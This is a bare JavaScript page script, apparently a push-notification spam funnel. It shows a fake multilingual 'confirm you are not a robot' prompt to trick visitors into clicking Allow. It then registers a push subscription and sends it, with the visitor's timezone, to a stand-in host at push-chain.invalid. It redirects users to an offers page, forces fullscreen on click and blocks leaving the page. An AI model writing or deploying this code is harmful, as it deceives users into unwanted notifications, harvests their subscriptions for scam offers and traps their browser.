const TEXTS = {
  en: 'Click "Allow" to confirm you are not a robot',
  de: 'Klicken Sie auf „Zulassen", um zu bestätigen, dass Sie kein Roboter sind',
  pt: 'Clique em "Permitir" para continuar assistindo ao vídeo',
  tr: 'Robot olmadığınızı doğrulamak için "İzin Ver"e tıklayın',
};
const next = 'https://push-chain.invalid/step/' + (Number(new URLSearchParams(location.search).get('s') || 1) + 1);

function ask() {
  const l = (navigator.language || 'en').slice(0, 2);
  document.body.innerHTML = '<div class="cap"><img src="/i/robot.png"><h1>' + (TEXTS[l] || TEXTS.en) + '</h1><div class="arrow">↖</div></div>';
  Notification.requestPermission().then(async (p) => {
    if (p === 'granted') {
      const reg = await navigator.serviceWorker.register('/sw-push.js');
      const sub = await reg.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: 'Bdemo1KEY' });
      await fetch('https://sub.push-chain.invalid/add', { method: 'POST', body: JSON.stringify({ sub, z: 5518, tz: new Date().getTimezoneOffset() }) });
    }
    location.href = p === 'granted' ? 'https://offers.push-chain.invalid/?ok' : next;
  });
}

if (Notification.permission === 'default') ask();
else location.replace(next);
document.documentElement.onclick = () => document.documentElement.requestFullscreen && document.documentElement.requestFullscreen();
window.onbeforeunload = () => 'Wait!';
